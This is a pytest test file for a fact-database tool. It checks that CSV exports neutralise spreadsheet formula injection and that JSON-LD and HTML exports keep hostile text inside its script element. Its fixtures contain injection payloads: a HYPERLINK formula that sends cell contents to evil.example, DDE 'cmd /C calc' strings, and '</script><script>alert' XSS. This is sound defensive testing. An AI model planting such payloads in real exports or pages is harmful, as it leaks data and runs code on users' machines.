"""Hostile text on the way out: CSV cells never run as formulas, JSON-LD never leaves its script.

The text reaches the exports the way a user's would: in sources added with `factdb add`, in
the sentences (quotes, propositions) and in the header fields (outlet, title, author, url).
"""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser

import pytest
from typer.testing import CliRunner

from factdb.cli.app import app
from factdb.export import claimreview, jsonld_for_html
from factdb.queries import iter_histories
from factdb.store import open_store

runner = CliRunner()
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

FORMULA_SOURCE = """outlet: =HYPERLINK("http://evil.example/?leak="&A1,"Wire")
title: @SUM(1+1)*cmd|' /C calc'!A0
author: +44 20 7946 0000
url: -2+3+cmd|' /C calc'!A0

=HYPERLINK("http://evil.example","click") The regional council approved the compensation plan on Monday, officials said.

+1 Police in Dunrask arrested two traders accused of smuggling turbines, the ministry said.

-5 degrees froze the reservoir at Pelin overnight, the weather service said.

@channel The Velmira Dam gave way early on Saturday, regional governor Marta Kellan said.

Kellan said "=1+1" was written on the wall of the control room at the dam.
"""

SCRIPT_SOURCE = """outlet: </script><script>alert('outlet')</script>

The council said </script><script>alert(1)</script> the dam gave way on Saturday.

Officials said <!-- the spillway <script> had failed ]]> & "quoted" on Sunday.

The engineer said the text \u2028 broke \u2029 the line at the dam on Monday.
"""


def _invoke(db: str, *args: str, input: str | None = None):
    result = runner.invoke(app, ["--db", db, *args], input=input)
    assert result.exit_code == 0, (result.stdout, result.stderr, result.exception)
    return result


@pytest.mark.parametrize(
    "command",
    [("export", "--format", "csv"), ("sources", "--format", "csv"), ("claims", "--format", "csv")],
    ids=lambda c: " ".join(c),
)
def test_csv_output_neutralises_every_formula_cell(db_url, command):
    added = _invoke(db_url, "add", "-", input=FORMULA_SOURCE)
    assert "1 added" in added.stderr
    rows = list(csv.reader(io.StringIO(_invoke(db_url, *command).stdout, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) >= 2
    dangerous = [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert dangerous == [], "cells a spreadsheet would evaluate"
    # The text is kept, behind a quote: nothing is lost either.
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert any(cell.startswith(("'+1 Police", "'@SUM")) for cell in cells)


def test_csv_export_to_a_file_is_neutralised_too(db_url, tmp_path):
    _invoke(db_url, "add", "-", input=FORMULA_SOURCE)
    target = tmp_path / "claims.csv"
    _invoke(db_url, "export", "--format", "csv", "-o", str(target))
    with target.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
    assert cells and not [cell for cell in cells if cell.startswith(TRIGGERS)]


class _Scripts(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[tuple[dict, str]] = []
        self._open: dict | None = None

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self._open = dict(attrs)
            self.scripts.append((self._open, ""))

    def handle_data(self, data):
        if self._open is not None:
            attrs, text = self.scripts[-1]
            self.scripts[-1] = (attrs, text + data)

    def handle_endtag(self, tag):
        if tag == "script":
            self._open = None


def test_claimreview_json_ld_from_hostile_sources_stays_inside_its_script_element(db_url):
    _invoke(db_url, "add", "-", input=SCRIPT_SOURCE)
    with open_store(db_url) as store:
        reviews = [review for history in iter_histories(store) for review in claimreview(history)]
    assert reviews
    assert any("</script>" in json.dumps(review) for review in reviews), "the hostile text reached the reviews"
    page = "<html><body>" + "".join(
        f'<script type="application/ld+json">{jsonld_for_html(review)}</script>' for review in reviews
    ) + "<p>after</p></body></html>"
    parser = _Scripts()
    parser.feed(page)
    assert len(parser.scripts) == len(reviews), "a review closed its script element or opened another"
    for (attrs, text), review in zip(parser.scripts, reviews):
        assert attrs == {"type": "application/ld+json"}
        assert json.loads(text) == review
        assert "<!--" not in text and "\u2028" not in text


def test_html_report_of_hostile_sources_has_only_its_own_script(db_url, tmp_path):
    _invoke(db_url, "add", "-", input=SCRIPT_SOURCE)
    target = tmp_path / "report.html"
    _invoke(db_url, "report", "-o", str(target))
    parser = _Scripts()
    parser.feed(target.read_text(encoding="utf-8"))
    assert len(parser.scripts) == 1 and "alert" not in parser.scripts[0][1]
